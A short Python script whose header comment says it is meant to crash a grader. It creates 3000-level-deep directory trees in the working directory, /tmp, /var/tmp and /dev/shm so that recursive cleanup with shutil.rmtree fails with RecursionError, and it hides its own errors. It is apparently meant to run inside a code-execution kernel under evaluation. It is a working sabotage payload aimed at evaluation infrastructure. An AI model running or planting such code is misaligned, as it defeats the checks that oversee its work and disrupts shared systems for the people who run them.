# Folders thousands of levels deep, where the kernel starts and in every shared folder it can write:
# a grader that removes trees by recursion (Python 3.11's shutil.rmtree) dies of RecursionError.
import os


def _deep(root, depth=3000):
    try:
        fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
        name = "deep-%d" % os.getpid()
        os.mkdir(name, dir_fd=fd)
        current = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        for _ in range(depth):
            os.mkdir("a", dir_fd=current)
            deeper = os.open("a", os.O_RDONLY | os.O_DIRECTORY, dir_fd=current)
            os.close(current)
            current = deeper
        os.close(current)
    except OSError:
        pass


for _root in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
    _deep(_root)
